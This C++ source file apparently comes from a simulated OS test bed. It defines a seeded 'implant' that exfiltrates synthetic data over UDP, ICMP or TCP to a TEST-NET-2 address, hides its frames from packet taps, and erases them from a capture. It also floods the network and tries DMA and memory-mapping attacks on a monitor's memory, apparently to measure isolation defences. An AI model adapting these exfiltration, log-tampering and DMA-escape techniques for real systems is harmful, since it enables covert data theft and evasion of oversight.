// SPDX-License-Identifier: MIT
// Implant: exfiltrate, hide, rewrite, hunt, flood -- and measure.
#include "twinos/os/implant.h"

#include <algorithm>
#include <cstring>

#include "twinos/machine/el3_registers.h"
#include "twinos/net/byte_order.h"

namespace twinos::os {

using namespace twinos::machine;
using namespace twinos::machine::el3;

namespace {

// A small, fixed generator: the same seed gives the same intruder everywhere.
std::uint64_t mix(std::uint64_t& state) {
    state += 0x9e3779b97f4a7c15ull;
    std::uint64_t z = state;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

constexpr std::uint16_t kSourcePort = 40'123;
constexpr std::uint8_t kIpProtocolTcp = 6;

}  // namespace

const char* to_string(ExfilKind kind) {
    switch (kind) {
        case ExfilKind::Udp: return "udp";
        case ExfilKind::Icmp: return "icmp";
        case ExfilKind::Tcp: return "tcp";
    }
    return "?";
}

ImplantPlan ImplantPlan::from_seed(std::uint64_t seed, Ticks earliest, PhysAddr target) {
    std::uint64_t s = seed;
    ImplantPlan p;
    p.seed = seed;
    p.kind = static_cast<ExfilKind>(mix(s) % 3);
    // Ports an intruder hides behind: common ones, or any high one.
    static constexpr std::uint16_t kCommon[] = {53, 80, 123, 443, 8080};
    const std::uint64_t pick = mix(s);
    p.port = pick % 2 ? kCommon[pick / 2 % 5] : static_cast<std::uint16_t>(1024 + pick / 2 % 60000);
    // An outside host beyond the wire: 198.51.100.0/24 (TEST-NET-2), through
    // a station address the co-existing OS would use for its router.
    p.peer_ip = 0xc6336400 | static_cast<std::uint32_t>(1 + mix(s) % 254);
    p.peer_mac = {0x02, 0x00, 0x5e, 0x10, 0x00, static_cast<std::uint8_t>(mix(s))};
    p.visible = 2 + static_cast<std::uint32_t>(mix(s) % 3);
    p.hidden = 5 + static_cast<std::uint32_t>(mix(s) % 6);
    p.flood = 48 + static_cast<std::uint32_t>(mix(s) % 32);
    p.payload_bytes = 32 + static_cast<std::uint32_t>(mix(s) % 1200);
    p.start = earliest + microseconds(static_cast<std::int64_t>(mix(s) % 5000));
    p.target = target;
    return p;
}

Implant::Implant(Kernel& kernel, GuestCapture* capture, ImplantPlan plan, Observer observer)
    : kernel_(kernel), capture_(capture), plan_(plan), observer_(std::move(observer)) {}

// [os:implant-phases]
void Implant::start() {
    const Ticks t = plan_.start;
    const Ticks ms = milliseconds(1);
    kernel_.run_at(t, "implant:measure", [this] { measure_io(); });
    kernel_.run_at(t, "implant:exfiltrate", [this] { exfiltrate(0, plan_.visible); });
    kernel_.run_at(t + ms, "implant:hide", [this] {
        hide();
        exfiltrate(plan_.visible, plan_.hidden);
    });
    kernel_.run_at(t + ms * 2, "implant:rewrite", [this] { rewrite_capture(); });
    // Then the flood, and when it is over, the hunt.
    kernel_.run_at(t + ms * 3, "implant:flood", [this] {
        phase_ = 4;
        flood(plan_.flood);
    });
}
// [/os:implant-phases]

void Implant::start_measuring_only() {
    kernel_.run_at(plan_.start, "implant:measure", [this] { measure_io(); });
}

bool Implant::is_ours(std::span<const std::byte> frame) const {
    if (frame.size() < 34 || net::get16(frame.data() + 12) != net::kEtherTypeIpv4) return false;
    const std::uint32_t src = net::get32(frame.data() + 26), dst = net::get32(frame.data() + 30);
    return src == plan_.peer_ip || dst == plan_.peer_ip;
}

std::vector<std::byte> Implant::frame_for(std::uint32_t sequence, std::size_t data_bytes) const {
    // The data: what it steals (a pattern derived from the seed), numbered.
    std::vector<std::byte> data(data_bytes);
    for (std::size_t i = 0; i < data.size(); ++i)
        data[i] = std::byte((plan_.seed * 131 + sequence * 17 + i) & 0xff);
    const net::MacAddress self = kernel_.net().device()->mac();
    const std::uint32_t self_ip = kernel_.net().ipv4();
    std::vector<std::byte> f;
    if (plan_.kind == ExfilKind::Udp) {
        net::build_udp_frame(f, {self, self_ip, kSourcePort},
                             {plan_.peer_mac, plan_.peer_ip, plan_.port}, data,
                             static_cast<std::uint16_t>(0x4000 + sequence));
        return f;
    }
    const std::size_t header = plan_.kind == ExfilKind::Icmp ? 8 : 20;
    const auto ip_length = static_cast<std::uint16_t>(net::kIpv4HeaderBytes + header + data.size());
    f.assign(net::kEthernetHeaderBytes + ip_length, std::byte{0});
    net::write_ethernet_header(f.data(), plan_.peer_mac, self, net::kEtherTypeIpv4);
    std::byte* ip = f.data() + net::kEthernetHeaderBytes;
    const std::uint8_t protocol =
        plan_.kind == ExfilKind::Icmp ? net::kIpProtocolIcmp : kIpProtocolTcp;
    net::write_ipv4_header(ip, protocol, ip_length, static_cast<std::uint16_t>(0x4000 + sequence),
                           self_ip, plan_.peer_ip);
    std::byte* l4 = ip + net::kIpv4HeaderBytes;
    std::copy(data.begin(), data.end(), l4 + header);
    const std::size_t l4_bytes = header + data.size();
    if (plan_.kind == ExfilKind::Icmp) {
        l4[0] = std::byte{8};  // echo request; identifier = the port, sequence = ours
        net::put16(l4 + 4, plan_.port);
        net::put16(l4 + 6, static_cast<std::uint16_t>(sequence));
        net::put16(l4 + 2, net::internet_checksum({l4, l4_bytes}));
    } else {
        net::put16(l4, kSourcePort);
        net::put16(l4 + 2, plan_.port);
        net::put32(l4 + 4, static_cast<std::uint32_t>(plan_.seed) + sequence * 1000);
        net::put32(l4 + 8, 1);
        l4[12] = std::byte{5 << 4};  // 20-byte header
        l4[13] = std::byte{0x18};    // PSH | ACK: data, no handshake
        net::put16(l4 + 14, 65535);
        const std::uint32_t pseudo = net::pseudo_header_sum(self_ip, plan_.peer_ip, kIpProtocolTcp,
                                                            static_cast<std::uint32_t>(l4_bytes));
        net::put16(l4 + 16, net::internet_checksum({l4, l4_bytes}, pseudo));
    }
    return f;
}

void Implant::send(const std::vector<std::byte>& frame) {
    if (kernel_.net().send_raw(frame)) {
        sent_.push_back(frame);
        sent_phases_.push_back(phase_);
    } else {
        ++refused_;
    }
}

void Implant::exfiltrate(std::uint32_t first, std::uint32_t count) {
    for (std::uint32_t i = first; i < first + count; ++i) {
        const std::size_t bytes = plan_.payload_bytes + (i * 37) % 200;
        send(frame_for(i, std::min<std::size_t>(bytes, 1400)));
    }
}

// [os:implant-hide]
void Implant::hide() {
    phase_ = 2;
    // The rootkit's hook: the OS's own taps no longer see our frames.
    kernel_.net().hook_taps(
        [this](std::span<const std::byte> frame, bool) { return !is_ours(frame); });
}

void Implant::rewrite_capture() {
    // And the frames the capture did see before the hook are cut out of it.
    if (capture_)
        erased_ = capture_->erase_if([this](const GuestRecord& r) { return is_ours(r.bytes); });
}
// [/os:implant-hide]

void Implant::measure_io() {
    // rdtsc; 64 reads of the card's status register; rdtsc.
    const Ticks before = kernel_.cycle_counter();
    for (int i = 0; i < 64; ++i) kernel_.io().in16(card_port(kStatus));
    io_time_ = Ticks{(kernel_.cycle_counter() - before).count() / 64};
}

Port Implant::card_port(std::uint32_t offset) const {
    for (const DeviceAssignment& d : kernel_.devices()) {
        if (d.kind == "3c905")
            return Port{static_cast<std::uint16_t>(d.ports.base.value() + offset)};
    }
    return Port{0};
}

void Implant::attempt(const std::string& what, const std::function<std::string()>& act) {
    std::string seen;
    try {
        seen = act();
    } catch (const std::exception& e) {
        seen = e.what();
    }
    hunts_.push_back({what, observer_ ? observer_(what, seen) : seen});
}

// [os:implant-hunt]
void Implant::hunt() {
    const PhysAddr target = plan_.target;
    const Partition& own = kernel_.partition();
    const std::uint32_t edge = static_cast<std::uint32_t>(own.end().value());
    attempt("map the monitor's memory into its own kernel", [&] {
        const VirtAddr page{0xf000'0000};
        return std::string("map: ") + to_string(kernel_.space().map(page, target, Perm::ReadWrite));
    });
    attempt("read the page past the end of its partition", [&] {
        std::byte b[16];
        kernel_.space().read(VirtAddr{kKernelDirectMap + own.size_bytes}, b);
        return std::string("read succeeded");
    });
    attempt("write COM1, the preceding OS's console", [&] {
        kernel_.io().out8(Port{0x3f8}, 'X');
        return std::string("write succeeded");
    });
    // Descriptors live in its own memory, as any driver's do.
    const DmaBuffer d = kernel_.dma_alloc(4096);
    auto word = [&](std::uint32_t offset, std::uint32_t value) {
        auto v = kernel_.dma_view(d, offset, 4);
        for (int i = 0; i < 4; ++i) v[i] = std::byte(value >> (8 * i));
    };
    const auto at = static_cast<std::uint32_t>(d.pa.value());
    const auto aim = static_cast<std::uint32_t>(target.value());
    auto out = [&](std::uint32_t reg, std::uint32_t value) {
        kernel_.io().out32(card_port(reg), value);
        return std::string("written");
    };
    attempt("receive into the monitor's memory (a UPD's buffer there)", [&] {
        word(kUpdNext, at);
        word(kUpdStatus, 0);
        word(kUpdFragAddr, aim);
        word(kUpdFragLength, 1536 | kLastFrag);
        return out(kUpListPtr, at);
    });
    attempt("a receive list that starts in the monitor's memory",
            [&] { return out(kUpListPtr, aim); });
    attempt("a receive buffer straddling the end of its partition", [&] {
        word(kUpdFragAddr, edge - 100);
        return out(kUpListPtr, at);
    });
    attempt("send the monitor's memory out (a DPD fragment there)", [&] {
        word(0x100 + kDpdNext, 0);
        word(0x100 + kDpdHeader, 0);
        word(0x100 + kDpdFragAddr, aim);
        word(0x100 + kDpdFragLength, 1024 | kLastFrag);
        return out(kDownListPtr, at + 0x100);
    });
    attempt("a transmit list that loops back into its middle", [&] {
        for (std::uint32_t i = 0; i < 3; ++i) {
            const std::uint32_t dpd = 0x200 + i * 0x20;
            word(dpd + kDpdNext, at + (i == 2 ? 0x220 : dpd + 0x20));
            word(dpd + kDpdHeader, 0);
            word(dpd + kDpdFragAddr, at + 0x800);
            word(dpd + kDpdFragLength, 64 | kLastFrag);
        }
        return out(kDownListPtr, at + 0x200);
    });
    attempt("reset the card (TotalReset)", [&] {
        kernel_.io().out16(card_port(kCommand), TotalReset);
        return std::string("written");
    });
}
// [/os:implant-hunt]

void Implant::flood(std::uint32_t left) {
    // Full-size frames every 20 us: five times what the wire carries.
    if (left == 0) {
        kernel_.run_at(kernel_.now() + milliseconds(1), "implant:hunt", [this] {
            if (plan_.hunt) hunt();
            finished_ = true;
        });
        return;
    }
    send(frame_for(plan_.visible + plan_.hidden + (plan_.flood - left), 1400));
    kernel_.run_at(kernel_.now() + microseconds(20), "implant:flood",
                   [this, left] { flood(left - 1); });
}

}  // namespace twinos::os
